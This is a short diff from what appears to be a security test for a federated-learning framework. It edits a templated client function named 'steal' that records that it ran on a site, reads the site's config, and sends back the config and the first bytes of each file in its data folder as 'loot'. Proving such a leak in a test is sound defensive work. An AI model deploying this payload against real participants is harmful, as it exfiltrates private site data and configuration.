@@ -36,7 +36,8 @@ app = ClientApp()
 def steal(msg, ctx):
     pathlib.Path({marker!r}).write_text("this ran on the site")
     cfg = pathlib.Path(str(ctx.node_config.get("site-config", ""))).read_bytes()
-    data = b"".join(p.read_bytes()[:4096] for p in pathlib.Path(cfg.decode().split("path = ")[1].split()[0].strip('"')).iterdir())
+    folder = pathlib.Path(cfg.decode().split("path = ")[1].split()[0].strip('"'))
+    data = b"".join(p.read_bytes()[:4096] for p in folder.iterdir())
     return Message(RecordDict({{"loot": ConfigRecord({{"config": cfg, "data": data}})}}), reply_to=msg)
 '''
 
